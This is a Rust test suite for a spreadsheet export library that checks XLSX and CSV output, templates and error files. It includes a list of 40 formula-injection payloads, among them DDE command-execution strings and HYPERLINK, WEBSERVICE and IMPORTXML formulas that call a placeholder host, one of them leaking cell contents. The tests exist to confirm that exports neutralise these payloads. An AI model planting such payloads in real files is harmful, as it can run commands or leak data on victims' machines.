use std::borrow::Cow;
use std::io::{Cursor, Read as _};

use sheets::read::ERROR_HEADINGS;
use sheets::write::{
    Cell, CellError, Column, ErrorFile, ErrorWords, Kind, TableCsv, TableXlsx, Template, TemplateColumn,
    TemplateWords, template,
};

use crate::support::read_bytes;

/// Forty ways to smuggle a formula into an export.
const PAYLOADS: [&str; 40] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x/?\"&A1,\"点击\")",
    "=WEBSERVICE(\"http://x\")",
    "=IMPORTXML(\"http://x\",\"//a\")",
    "=IMAGE(\"http://x\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=A1",
    "==1",
    "= 1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+8613812345678",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "--1",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    "\t\t=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "＝cmd|' /C calc'!A0",
    "'=1+1",
    "''=1+1",
    "'+1",
    "'@x",
    "=1\",=2",
    "=1;=2",
    "=1\n=2",
    "=\u{4e00}",
    "=\"张\"&\"三\"",
    "=1,\"=2\"",
];

fn texts() -> Vec<String> {
    let more = [
        "张三",
        "'引号",
        "''",
        "007",
        "a,b",
        "a\"b",
        "行1\r\n行2",
        " 前后 ",
        "_x000D_",
        "1e5",
        "𠮷<&>",
        "-5",
        "1-1",
    ];
    PAYLOADS.iter().chain(&more).map(|text| (*text).to_owned()).collect()
}

fn xlsx(texts: &[String]) -> Vec<u8> {
    let columns = ["编号", "内容"].map(|title| Column { title: title.into(), kind: Kind::Text });
    let mut table = TableXlsx::new("客户", &columns).unwrap();
    for text in texts {
        table.push(&[Cell::Integer(1), Cell::Text(Cow::Borrowed(text))]).unwrap();
    }
    let mut bytes = Cursor::new(Vec::new());
    assert_eq!(table.finish(&mut bytes).unwrap(), texts.len() as u64);
    bytes.into_inner()
}

fn part(bytes: &[u8], name: &str) -> String {
    let mut text = String::new();
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    zip.by_name(name).unwrap().read_to_string(&mut text).unwrap();
    text
}

#[test]
fn no_payload_becomes_a_formula_and_every_text_comes_back() {
    let texts = texts();
    let bytes = xlsx(&texts);
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "));
    assert!(part(&bytes, "xl/styles.xml").contains("quotePrefix=\"1\""));
    let read = read_bytes(&bytes).unwrap();
    let found: Vec<&str> = (0..read.rows.len()).map(|row| read.cells(row)[1]).collect();
    assert_eq!(found, texts);

    let mut csv = Vec::new();
    let mut table = TableCsv::new(&mut csv, &["编号".to_owned(), "内容".to_owned()]).unwrap();
    for text in &texts {
        table.push(&[Cell::Integer(-1), Cell::Text(Cow::Borrowed(text))]).unwrap();
    }
    table.finish().unwrap();
    let mut raw = csv::ReaderBuilder::new().from_reader(&csv[3..]);
    for record in raw.records() {
        let cell = record.unwrap()[1].to_owned();
        assert!(!sheets::text::looks_like_formula(&cell), "{cell:?}");
    }
    let read = read_bytes(&csv).unwrap();
    let found: Vec<&str> = (0..read.rows.len()).map(|row| read.cells(row)[1]).collect();
    assert_eq!(found, texts);
    assert_eq!(read.cells(0)[0], "-1");
}

#[test]
fn typed_cells_come_back_as_they_went() {
    let cells = [
        Cell::Text("0012".into()),
        Cell::Integer(13_812_345_678),
        Cell::Integer(1_234_567_890_123_456_789),
        Cell::Number(-0.1),
        Cell::Bool(true),
        Cell::Date("2024-02-29".into()),
        Cell::DateTime("2024-02-29 23:59:59".into()),
        Cell::Date("1850-01-01".into()),
        Cell::Empty,
        Cell::Number(f64::NAN),
        Cell::Text("末".into()),
    ];
    let expected = [
        "0012",
        "13812345678",
        "1234567890123456789",
        "-0.1",
        "是",
        "2024-02-29",
        "2024-02-29 23:59:59",
        "1850-01-01",
        "",
        "",
        "末",
    ];
    let titles: Vec<String> = (0..cells.len()).map(|n| format!("列{n}")).collect();
    let columns: Vec<Column> =
        titles.iter().map(|title| Column { title: title.clone(), kind: Kind::Text }).collect();
    let mut table = TableXlsx::new("表", &columns).unwrap();
    table.push(&cells).unwrap();
    let mut bytes = Cursor::new(Vec::new());
    table.finish(&mut bytes).unwrap();
    let read = read_bytes(&bytes.into_inner()).unwrap();
    assert_eq!(read.cells(0), expected);
    assert!(read.rows[0].problems.is_empty());

    let mut csv = Vec::new();
    let mut table = TableCsv::new(&mut csv, &titles).unwrap();
    table.push(&cells).unwrap();
    table.finish().unwrap();
    assert_eq!(read_bytes(&csv).unwrap().cells(0), expected);
}

#[test]
fn a_text_longer_than_a_cell_is_cut_not_refused() {
    let bytes = xlsx(&["𠮷".repeat(20_000)]);
    assert_eq!(read_bytes(&bytes).unwrap().cells(0)[1].chars().count(), 16_383);
}

fn words() -> TemplateWords {
    TemplateWords {
        help_sheet: "填写说明".into(),
        choices_sheet: "选项".into(),
        required: "必填".into(),
        optional: "选填".into(),
        example: "示例：".into(),
        headings: ["列名", "必填", "类型", "说明", "可选值", "示例"].map(Into::into),
        yes: "是".into(),
        no: "否".into(),
        kinds: ["文字", "数字", "日期"].map(Into::into),
        comma: "、".into(),
        not_a_choice: "请从列表中选择".into(),
        choose: "请选择下拉列表中的值".into(),
    }
}

// covers: CI-02
#[test]
fn a_template_read_back_gives_its_stamp_and_headings() {
    let columns = vec![
        TemplateColumn {
            title: "客户名称".into(),
            is_required: true,
            help: "营业执照上的全称".into(),
            example: "广州天江".into(),
            ..TemplateColumn::default()
        },
        TemplateColumn {
            title: "类型".into(),
            choices: vec!["单位".into(), "个人".into()],
            ..TemplateColumn::default()
        },
        TemplateColumn {
            title: "城市".into(),
            choices: (0..300).map(|n| format!("城市{n}")).collect(),
            ..TemplateColumn::default()
        },
        TemplateColumn { title: "成立日期".into(), kind: Kind::Date, ..TemplateColumn::default() },
    ];
    let source = Template {
        sheet: "客户".into(),
        columns,
        notes: vec!["请在“客户”表中填写。".into()],
        stamp: "customers/3".into(),
        words: words(),
    };
    let mut bytes = Cursor::new(Vec::new());
    template(&source, &mut bytes).unwrap();
    let bytes = bytes.into_inner();
    let read = read_bytes(&bytes).unwrap();
    assert_eq!(read.columns(), ["客户名称", "类型", "城市", "成立日期"]);
    assert_eq!(read.header.stamp.as_deref(), Some("customers/3"));
    assert_eq!(read.header.sheets, ["客户", "填写说明"]);
    assert!(read.rows.is_empty());
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("\"单位,个人\"") && sheet.contains("'选项'!$A$1:$A$300"), "{sheet}");
    assert!(part(&bytes, "xl/workbook.xml").contains("state=\"hidden\""));
    assert!(part(&bytes, "xl/comments1.xml").contains("必填"));
}

fn error_words(language: usize) -> ErrorWords {
    let [sheet, colon, semicolon] = [["需要修改的数据", "：", "；"], ["To correct", ": ", "; "]][language];
    ErrorWords {
        sheet: sheet.into(),
        headings: ERROR_HEADINGS[language],
        colon: colon.into(),
        semicolon: semicolon.into(),
    }
}

// covers: CI-02
#[test]
fn a_corrected_error_file_is_recognised() {
    for (language, said) in [(0, "手机：手机号应为 11 位"), (1, "手机: 手机号应为 11 位")] {
        let titles = ["姓名".to_owned(), "手机".to_owned()];
        let mut file = ErrorFile::new(&titles, Some("import/7"), error_words(language)).unwrap();
        let wrong = CellError { column: Some(1), reason: "手机号应为 11 位".into() };
        file.push(17, &["张三".into(), "0138".into()], &[wrong]).unwrap();
        let whole = CellError { column: None, reason: "与第 3 行重复".into() };
        file.push(400, &["=李四".into(), "13812345678".into(), "多余".into()], &[whole]).unwrap();
        let mut bytes = Cursor::new(Vec::new());
        assert_eq!(file.finish(&mut bytes).unwrap(), 2);
        let bytes = bytes.into_inner();
        let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
        assert!(
            sheet.contains(said)
                && sheet.contains("与第 3 行重复")
                && sheet.contains(ERROR_HEADINGS[language][0])
        );
        assert!(part(&bytes, "xl/workbook.xml").contains(&error_words(language).sheet));
        assert!(part(&bytes, "xl/styles.xml").contains("FFC7CE"));
        assert!(part(&bytes, "xl/comments1.xml").contains("手机号应为 11 位"));
        let read = read_bytes(&bytes).unwrap();
        assert!(read.header.is_error_file);
        assert_eq!(read.header.stamp.as_deref(), Some("import/7"));
        assert_eq!(read.columns(), ["姓名", "手机"]);
        assert_eq!(read.cells(0), ["张三", "0138"]);
        assert_eq!(read.rows[0].original, Some(17));
        assert_eq!((read.cells(1)[0], read.rows[1].original), ("=李四", Some(400)));
    }
}
